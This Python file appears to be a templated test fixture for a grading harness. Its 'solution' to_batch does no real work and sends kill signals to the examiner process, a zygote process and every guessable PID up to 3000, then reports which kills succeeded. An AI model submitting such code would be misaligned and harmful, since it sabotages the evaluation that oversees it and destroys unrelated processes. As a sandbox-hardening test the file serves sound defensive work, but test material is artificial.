# what: signals to the examiner, the zygote and everyone whose number it can guess
# base: solution
# expect: ex1_preprocess.to_batch=0
# status: error
# says: TRIED ALL
# leaves: nothing
import os

def attempts(**tries):
    """Say which of the attempts worked."""
    found = []
    for name, attempt in tries.items():
        try:
            found.append(f"{name}: {attempt()!r}"[:300])
        except Exception:
            pass
    raise RuntimeError("TRIED ALL" + (" FOUND " + "; ".join(found) if found else ""))

def to_batch(image):
    def shoot(pid):
        os.kill(pid, 0)
        os.kill(pid, 9)

    own = {os.getpid(), os.getppid(), 0, 1}
    attempts(**{f"pid{p}": (lambda p=p: shoot(p)) for p in [@PID@, @ZYGOTE@, *range(2, 3000)] if p not in own})
